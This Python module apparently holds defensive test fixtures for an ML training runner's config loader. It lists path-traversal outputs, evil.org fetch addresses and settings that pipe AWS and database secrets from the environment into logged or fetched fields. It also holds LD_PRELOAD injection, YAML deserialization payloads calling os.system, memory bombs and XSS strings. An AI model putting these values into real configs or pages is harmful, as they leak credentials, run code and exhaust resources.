"""Rows of attacks by configs: what a recipe or a run of a stranger says, and what is said of it."""

from typing import Any

PLACES = {
    "outputs": "outputs: /tmp/elsewhere",
    "outputs, upwards": "outputs: ../elsewhere",
    "outputs, inside and out again": "outputs: outputs/../../elsewhere",
    "outputs, at home": "outputs: ~/elsewhere",
    "outputs, through a link": "outputs: link/elsewhere",
    "outputs, referred to": "outputs: ${data.text_column}\ndata: {text_column: /tmp/elsewhere}",
    "outputs, in two parts": "outputs: /${data.text_column}\ndata: {text_column: tmp/elsewhere}",
    "outputs, by the environment": "outputs: ${oc.env:HOME}/elsewhere",
    "outputs, made": 'outputs: "${oc.decode:/tmp/elsewhere}"',
    "cache": "data: {cache_dir: /tmp/elsewhere}",
    "cache, upwards": "data: {cache_dir: ../cache}",
    "run": "hydra: {run: {dir: /tmp/elsewhere}}",
    "run, upwards": "hydra: {run: {dir: ../elsewhere}}",
    "run, through a link": "hydra: {run: {dir: link}}",
    "run, by time": "hydra: {run: {dir: '/tmp/${now:%Y}'}}",
    "sweep": "hydra: {sweep: {dir: /tmp/elsewhere}}",
    "job of a sweep": "hydra: {sweep: {subdir: ../../../elsewhere}}",
    "job of a sweep, absolute": "hydra: {sweep: {subdir: /tmp/elsewhere}}",
    "folder of Hydra's files": "hydra: {output_subdir: ../../../elsewhere}",
    "name of the log": "hydra: {job: {name: ../../../elsewhere}}",
    "scripts of jobs": "hydra: {launcher: {submitit_folder: /tmp/x}}\ndefaults:\n  - override /hydra/launcher: slurm",
    "resumed run": "resume: ../of_somebody",
    "csv": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: /tmp}}",
    "csv, beside": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: src}}",
    "csv, by position": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, _args_: [src]}}",
    "csv, by name": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, name: ../../../x}}",
    "csv, by version": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, version: ../../x}}",
    "csv, out of the run": "logger: {x: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: "
    "'${hydra.runtime.output_dir}/../../src'}}",
    "tensorboard": "logger: {x: {_target_: lightning.pytorch.loggers.TensorBoardLogger, save_dir: ~/x}}",
    "wandb": "logger: {x: {_target_: lightning.pytorch.loggers.WandbLogger, dir: /tmp}}",
    "mlflow": "logger: {mlflow: {_target_: runner.logging.MLFlow, tracking_uri: /tmp/mlruns}}",
    "checkpoints": "@checkpoint {_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: /tmp}",
    "checkpoints, beside": "@checkpoint {_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: src}",
    "checkpoints, by name": "@checkpoint {_target_: lightning.pytorch.callbacks.ModelCheckpoint, filename: ../../x}",
    "checkpoints, absolute name": "@checkpoint {_target_: lightning.pytorch.callbacks.ModelCheckpoint, filename: /tmp/x}",
    "more checkpoints": "callback: {x: {_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: src}}",
    "on exception": "callback: {x: {_target_: lightning.pytorch.callbacks.OnExceptionCheckpoint, dirpath: /tmp}}",
    "on exception, referred to": "callback: {x: {_target_: lightning.pytorch.callbacks.OnExceptionCheckpoint, dirpath: "
    "'${data.text_column}'}}\ndata: {text_column: /tmp}",
    "trainer": "@trainer {_target_: lightning.pytorch.Trainer, default_root_dir: /tmp}",
    "trainer, at home": "@trainer {_target_: lightning.pytorch.Trainer, default_root_dir: '~'}",
}
"""Recipes that choose where something is written; `link` leads out of the folder."""

ADDRESSES = [
    "http://127.0.0.1/x", "https://evil.org/x.csv", "HTTPS://evil.org/x", "ftp://evil.org/x", "sftp://evil.org/x",
    "store:http://127.0.0.1/x", "store:s3://id:secret@bucket/x", "store: s3://bucket/x", "s3://bucket/x", "gs://bucket/x",
    "abfs://x@y/z", "hf://datasets/evil/x", "hdfs://evil/x", "webdav://evil/x", "github://evil:x@main/y", "git://evil/x",
    "smb://evil/share", "file:///x::https://evil.org/x", "memory://x", "data://x", "jar://x", "reference://x", "ssh://evil/x",
    "simplecache::https://evil.org/x", "filecache::s3://bucket/x", "blockcache::s3://bucket/x", "simplecache::file:///x",
    "zip://x.csv::https://evil.org/x.zip", "tar://x::simplecache::https://evil.org/x.tar", "libarchive://x::http://evil/x",
    "https://evil.org/${oc.env:HOME}", "${data.text_column}://evil.org/x", "store:${data.text_column}://evil.org/x",
    "s3://bucket@train", "  https://evil.org/x", "https://good.org@evil.org/x", "https://good.org.evil.org/x",
]  # fmt: skip
"""Addresses that a recipe has its data fetched from; `data.text_column` is https."""

FETCHING = [
    "data.source", "data.validation", "data.tokenizer", "model.name_or_path", "objective.teacher",
    "data.mixture.x.source",
    "logger.x.tracking_uri", "hydra.sweeper.storage", "data.source[0]", "callback.x.suite",
]  # fmt: skip
"""Settings of different groups that an address may stand in."""

LOOKUPS = {
    "project": "logger: {wandb: {_target_: runner.logging.WandB, project: '${oc.env:AWS_SECRET_ACCESS_KEY}'}}",
    "owner": "logger: {wandb: {_target_: runner.logging.WandB, entity: 'x-${oc.env:AWS_SECRET_ACCESS_KEY}'}}",
    "name of data": "data: {validation: 'owner/${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "tokenizer": "data: {tokenizer: 'owner/${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "folder": "hydra: {run: {dir: 'outputs/${oc.env:AWS_SECRET_ACCESS_KEY}'}}",
    "outputs": "outputs: 'outputs/${oc.env:AWS_SECRET_ACCESS_KEY}'",
    "log": "hydra: {job: {name: '${oc.env:AWS_SECRET_ACCESS_KEY}'}}",
    "plain name": "data: {text_column: '${oc.env:PGPASS}'}",
    "with spaces": "data: {text_column: '${ oc.env : PGPASS }'}",
    "in quotation marks": "data: {text_column: \"${oc.env:'PGPASS'}\"}",
    "decoded": "data: {text_column: '${oc.decode:${oc.env:PGPASS}}'}",
    "made": "data: {text_column: '${oc.create:${oc.env:PGPASS}}'}",
    "for one that is unset": "data: {text_column: '${oc.env:UNSET,${oc.env:PGPASS}}'}",
    "name put together": "data: {text_column: '${oc.env:PG${data.split}}', split: PASS}",
    "lookup put together": "data: {text_column: '${oc.${data.split}:PGPASS}', split: env}",
    "in a list": "callback: {x: {_target_: runner.callbacks.Throughput, window: ['${oc.env:PGPASS}']}}",
    "referred to": "data: {text_column: '${data.split}', split: '${oc.env:PGPASS}'}",
    "known when it runs": "data: {text_column: '${not_yet:}${oc.env:PGPASS}'}",
    "known when it runs, put together": "data: {text_column: '${not_yet:}${oc.${data.split}:PGPASS}', split: env}",
    "variable known when it runs": "data: {text_column: '${not_yet:}${oc.env:${data.split}}', split: PGPASS}",
    "short secret": "data: {text_column: '${oc.env:SHORT_TOKEN}'}",
    "words of a suite": "callback: {suite: {_target_: runner.callbacks.SuiteEvaluation, overrides: "
    "['data.tokenizer=${oc.env:PGPASS}']}}",
}
"""Recipes that read the environment, for what is sent or written."""

SUITES = [
    "data.source=https://evil.org/x", "data.source=a,s3://evil/x", "data.cache_dir=/tmp/elsewhere",
    "outputs=/tmp/elsewhere",
    "+logger.x={_target_: lightning.pytorch.loggers.CSVLogger, save_dir: /tmp}", "hydra/launcher=slurm",
    "data.cache_dir=../cache", "data.tokenizer=\\${oc.env:PGPASS}", "data={source: 'https://evil.org/x'}",
    "suite.source=https://evil.org/x", "hydra.sweep={dir: /tmp/elsewhere}", "hydra.sweeper.storage=https://evil.org",
    "hydra.launcher.submitit_folder=/tmp/x", "hydra.mode=RUN", "data.source=\\${data.split}://evil.org",
    "allowed_addresses=[https://evil.org]", "allowed_targets=[os.system]", "hydra.job.env_set={LD_PRELOAD: x.so}",
    "callback.x={_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: /tmp}", "hydra.sweep.dir=/tmp/elsewhere",
]  # fmt: skip
"""Words that a recipe gives to the suites which its run starts."""

JOBS = {
    "several runs": ("hydra: {mode: MULTIRUN}", []),
    "launcher": ("defaults:\n  - override /hydra/launcher: slurm\nhydra: {mode: MULTIRUN}", []),
    "launcher of a sweep": ("defaults:\n  - override /hydra/launcher: slurm", ["-m"]),
    "other launcher": ("defaults:\n  - override /hydra/launcher: ray", ["-m"]),
    "launcher by its target": ("hydra: {launcher: {_target_: hydra_plugins.tiryns.SlurmLauncher}}", ["-m"]),
    "cluster": (
        "defaults:\n  - override /hydra/launcher: ray\nhydra: {launcher: {address: 'evil:6379'}}",
        ["-m"],
    ),
}
"""Recipes that submit jobs, with the flags that are typed."""

CONTROLS = [
    "a\nb", "a\rb", "a\tb", "a\x00b", "a\x1bb", "a\x0bb", "a\x85b", "a\u2028b", "a\u202eb", "-a", "--wrap=x",
    "\n", "\x7f",
]  # fmt: skip
"""Values that are no single word of a script or a command."""

FIELDS = ["name", "partition", "account", "qos", "constraint", "signal"]
"""Settings of the SLURM launcher that reach its batch script."""

LINKS = [
    "train.log", "metrics.csv", "order.txt", "digests.txt", ".lock", "status.json", "overrides.json", "command.txt",
    "config.yaml", "environment.json", "report.html", "samples.json", "manifest.json", "model", "checkpoints",
    "tensorboard",
    "checkpoints/last.ckpt", "evaluations", "wandb",
]  # fmt: skip
"""Names in a run's folder that are links to something of the user's."""

KERNELS: list[dict[str, Any]] = [
    *({name: "owner/kernel"} for name in ("attn_implementation", "_attn_implementation", "_attn_implementation_internal",
                                          "_experts_implementation")),
    *({"attn_implementation": value} for value in ("owner/kernel@main", "owner/kernel:function", "paged|owner/kernel",
      " owner/kernel ", "flash_attention_3", ["owner/kernel"], {"": "sdpa", "text_config": "owner/kernel"})),
    *({"experts_implementation": value} for value in ("deepgemm", "sonicmoe")),
    {"text_config": {"attn_implementation": "owner/kernel"}}, {"a": {"b": [{"attn_implementation": "owner/kernel"}]}},
    {"vision_config": {"_attn_implementation": "owner/kernel"}}, {"use_kernels": True},
    {"kernel_config": {"RMSNorm": "owner/kernel:RMSNorm"}},
]  # fmt: skip
"""Entries of a model's config.json that would have transformers load code of the hub."""


def replaced(content: str, pattern: object) -> dict[str, object]:
    """A rule of a tokenizer that puts a text in the place of a pattern."""
    return {"type": "Replace", "pattern": pattern, "content": content}


def in_turn(kind: str, *steps: object) -> dict[str, object]:
    """Rules of a tokenizer, one after the other."""
    return {"type": "Sequence", kind: list(steps)}


BYTES = {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True}
SPACES = {"type": "Metaspace", "replacement": "_", "prepend_scheme": "always", "split": True}

GROWING: dict[str, dict[str, Any]] = {
    "spaces": {"normalizer": in_turn("normalizers", *[replaced(" " * 200, {"String": " "})] * 4)},
    "doubled": {"normalizer": in_turn("normalizers", *[replaced("aa", {"String": "a"})] * 30)},
    "one rule": {"normalizer": replaced("b" * 10**6, {"String": "a"})},
    "nested": {"normalizer": in_turn("normalizers", *[in_turn("normalizers", replaced("aa", {"String": "a"}))] * 9)},
    "between all": {"normalizer": in_turn("normalizers", *[replaced("b", {"Regex": ""})] * 30)},
    "any character": {"normalizer": in_turn("normalizers", *[replaced("bb", {"Regex": "."})] * 30)},
    "empty text": {"normalizer": replaced("b" * 100, {"String": ""})},
    "before": {"normalizer": {"type": "Prepend", "prepend": "b" * 10**6}},
    "bytes": {"normalizer": in_turn("normalizers", *[{"type": "ByteLevel"}] * 20)},
    "words of bytes": {"pre_tokenizer": in_turn("pretokenizers", *[BYTES] * 20)},
    "words of spaces": {"pre_tokenizer": in_turn("pretokenizers", *[SPACES] * 20)},
    "both": {"normalizer": in_turn("normalizers", *[replaced("aa", {"String": "a"})] * 4),
             "pre_tokenizer": in_turn("pretokenizers", BYTES, SPACES)},
    "decoded": {"decoder": in_turn("decoders", *[replaced("aa", {"String": "a"})] * 30)},
    "map": {"normalizer": {"type": "Precompiled", "precompiled_charsmap": "AAAAAGFh" + "YWFh" * 2000}},
    "padded": {"padding": {"strategy": {"Fixed": 10**9}, "direction": "Right", "pad_to_multiple_of": None, "pad_id": 0,
                           "pad_type_id": 0, "pad_token": "[PAD]"}},
    "padded to a multiple": {"padding": {"strategy": "BatchLongest", "pad_to_multiple_of": 10**9}},
    "template": {"post_processor": {"type": "TemplateProcessing", "special_tokens": {}, "pair": [], "single": [
        {"SpecialToken": {"id": "[CLS]", "type_id": 0}}] * 1000}},
    "ids": {"post_processor": {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {
        "[CLS]": {"id": "[CLS]", "ids": [1] * 1000, "tokens": ["[CLS]"] * 1000}}}},
}  # fmt: skip
"""Parts of a tokenizer.json that make a long text of a short one."""

YAML = {
    "lines that repeat lines": "\n".join(
        ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
        + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    ),
    "in itself": "a: &a [*a]",
    "deep": "a: " + "[" * 5000 + "]" * 5000,
    "deep mapping": "a: " + "{b: " * 200 + "1" + "}" * 200,
    "a number": "seed: " + "9" * 5000,
    "python's object": "seed: !!python/object/apply:os.system ['touch pwned']",
    "python's name": "seed: !!python/name:os.system",
    "python's module": "seed: !!python/module:os",
    "python's new": "seed: !!python/object/new:subprocess.Popen [[touch, pwned]]",
    "merged": "callback:\n  y: &a {_target_: os.system}\n  x: {<<: *a, command: touch pwned}",
    "bytes": "seed: \x00",
    "no text": "\udcff",
    "two documents": "seed: 1\n---\nseed: 2",
    "no mapping": "- 1\n- 2",
    "no name": "? \n: 1",
}
"""Files of YAML that run code or fill the memory."""

NAMES = [
    "../evil", "../../evil", "/tmp/evil", "x/../../evil", "~/evil", "file:///tmp/evil", "pkg://os",
    "evil.yaml/../x",
]  # fmt: skip
"""Names of recipes and suites that lead out of their folder."""

MARKUP = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<b x=\"'&",
    "'><svg onload=alert(1)>", "javascript:alert(1)", "</title><script>alert(1)</script>", "<!--<script>",
    "\u2028<script>",
    "]]><script>alert(1)</script>", "&lt;script&gt;", "</style><script>alert(1)</script>", "<iframe src=//evil>",
    "<a href='javascript:x'>",
]  # fmt: skip
"""Texts that a page must show and not run."""
